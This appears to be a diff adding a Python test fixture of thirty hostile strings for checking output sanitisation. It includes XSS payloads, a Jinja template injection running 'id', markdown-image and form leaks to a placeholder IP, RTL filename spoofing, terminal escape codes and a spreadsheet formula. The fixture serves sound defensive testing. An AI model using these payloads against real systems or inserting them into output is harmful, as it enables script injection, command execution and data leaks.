@@ -1,0 +1,36 @@
+"""Thirty texts that try to run, to restyle, to lead away or to break out of where they are shown."""
+
+RTL, ZERO = "\u202e", "\u200b"
+HOSTILE = (
+    "<script>window.owned=1</script>",
+    "</script><script>window.owned=2</script>",
+    "<img src=x onerror=window.owned=3>",
+    "<svg onload=window.owned=4>",
+    "<svg><script>window.owned=5</script></svg>",
+    "<body onload=window.owned=6>",
+    '"><script>window.owned=7</script>',
+    "' onmouseover='window.owned=8' x='",
+    '" onfocus="window.owned=9" autofocus x="',
+    "<iframe srcdoc='<script>parent.owned=10</script>'></iframe>",
+    '<a href="javascript:window.owned=11">open</a>',
+    "javascript:window.owned=12",
+    "[link](javascript:window.owned=13)",
+    "![image](http://203.0.113.9/leak?x=1)",
+    "<style>body{display:none}</style>",
+    "</style><script>window.owned=14</script>",
+    "<link rel=stylesheet href=http://203.0.113.9/x.css>",
+    "x;}body{background:url(http://203.0.113.9/)}",
+    "{{ 7*7 }}{% raw %}${7*7}<%= 7*7 %>",
+    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
+    "<!-- <script>window.owned=15</script> -->",
+    "]]><script>window.owned=16</script>",
+    "<math><mtext></table><img src=x onerror=window.owned=17></math>",
+    "<form action=http://203.0.113.9/><input type=submit></form>",
+    "<meta http-equiv=refresh content='0;url=http://203.0.113.9/'>",
+    f"safe{RTL}gpj.exe{ZERO}\u2066hidden\u2069",
+    "\x1b[2J\x1b]0;owned\x07\x1b[31mred\x1b[0m\r\nsecond line",
+    "Z" + "\u0300\u0323\u0489" * 60 + "algo",
+    '=HYPERLINK("http://203.0.113.9/")[bold red]rich[/]:skull:',
+    "W" * 100_000,
+)
+assert len(HOSTILE) == 30
